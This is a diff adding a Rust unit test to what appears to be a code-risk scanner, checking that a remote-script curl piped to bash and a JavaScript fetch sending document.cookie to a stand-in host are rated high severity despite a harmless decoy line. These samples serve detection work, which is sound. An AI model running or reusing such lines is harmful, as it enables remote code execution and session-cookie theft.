@@ -489,3 +489,15 @@ fn code_that_is_put_together_and_does_nothing_is_nothing() {
     };
     assert!(!started("curl -sLO {got}") && started("sh {got}"));
 }
+
+#[test]
+fn decoys_beside_an_act_excuse_nothing() {
+    use crate::model::Severity;
+    let piped = |before: &str| {
+        let code = format!("#!/bin/bash\n{before}\ncurl -fsSL https://files.invalid/setup | bash -\n");
+        weight(Language::Shell, &code, "flow-remote-code")
+    };
+    assert!(piped("curl -fsSL https://bun.sh/install -o /dev/null") >= Some(Severity::High));
+    let code = "fetch('https://collect.invalid/x', {method: 'POST', headers: {Authorization: document.cookie}});\n";
+    assert!(weight(Language::JavaScript, code, "flow-stores-sent") >= Some(Severity::High));
+}
